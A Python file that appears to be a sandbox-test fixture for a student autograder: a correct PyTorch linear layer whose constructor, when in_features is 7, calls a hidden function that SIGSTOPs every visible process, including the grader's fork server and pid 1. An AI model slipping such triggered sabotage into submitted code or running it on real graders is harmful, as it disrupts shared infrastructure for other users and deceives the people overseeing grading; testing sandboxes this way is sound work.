"""Stops every process it can name (its parent, the fork server that forked it, pid 1, every pid
in /proc) with SIGSTOP, one by one and all at once (kill(-1)). A stopped fork server once had to
be replaced for every student after this one. The layer itself is correct (full marks)."""
import math
import os
import signal

import torch
from torch import nn


def attack():
    with open("/proc/1/cmdline", "rb") as f:  # never outside a sandbox: there these are the grader and the desktop
        if not f.read().split(b"\0")[0].endswith(b"bwrap"):
            raise RuntimeError("refusing to attack: not inside a pid namespace")
    me = os.getpid()
    results = {}
    for pid in sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | {1, os.getppid()}):
        if pid in (0, me):  # kill(0) is my own process group
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
            results[f"stop {pid}"] = "done"
        except OSError as exc:
            results[f"stop {pid}"] = type(exc).__name__
    try:
        os.kill(-1, signal.SIGSTOP)
        results["stop everyone"] = "done"
    except OSError as exc:
        results["stop everyone"] = type(exc).__name__
    return results


class MyLinear(nn.Module):
    """A correct layer, apart from the attack."""

    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        if in_features == 7:
            attack()
        bound = 1 / math.sqrt(in_features)
        self.weight = nn.Parameter(torch.empty(out_features, in_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        y = x @ self.weight.T
        return y if self.bias is None else y + self.bias
